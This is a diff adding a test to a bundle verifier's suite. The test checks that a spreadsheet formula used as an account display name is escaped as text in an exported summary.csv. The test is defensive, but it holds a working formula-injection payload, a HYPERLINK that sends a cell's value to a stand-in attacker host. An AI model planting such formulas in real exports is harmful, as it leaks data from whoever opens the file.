@@ -244,4 +244,18 @@ describe('the standalone bundle verifier', () => {
     const missing = await run(process.execPath, [VERIFIER, path.join(root, 'nothing-here')]).catch((error: { code: number }) => error);
     expect(missing).toMatchObject({ code: 2 });
   });
+
+  it('keeps a name a spreadsheet would read as a formula as text in summary.csv, and the verifier reads it back', async () => {
+    // Last: its checkpoint would renumber the checkpoints the tests above name. An outside tester named an account =HYPERLINK(…): the auditor's spreadsheet showed a live link in 操作人.
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"点此")';
+    const named = await new LoanCase(database.db).submit('2026-03-07T02:00:00.000Z');
+    await named.act({ ...fundReviewer, displayName: formula }, { type: 'AcceptMaterials' }, '2026-03-08T02:00:00.000Z');
+    await checkpointNow(database.db, key);
+    const dir = await exportTo('formula-name', named.caseId);
+    const row = (await readFile(path.join(dir, 'summary.csv'), 'utf8')).split('\r\n')[2]!;
+    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""点此"")",`);
+    expect(row).not.toContain(',"=HYPERLINK');
+    const result = await verify(dir, '--key-id', key.keyId);
+    expect(failed(result)).toEqual([]);
+  });
 });
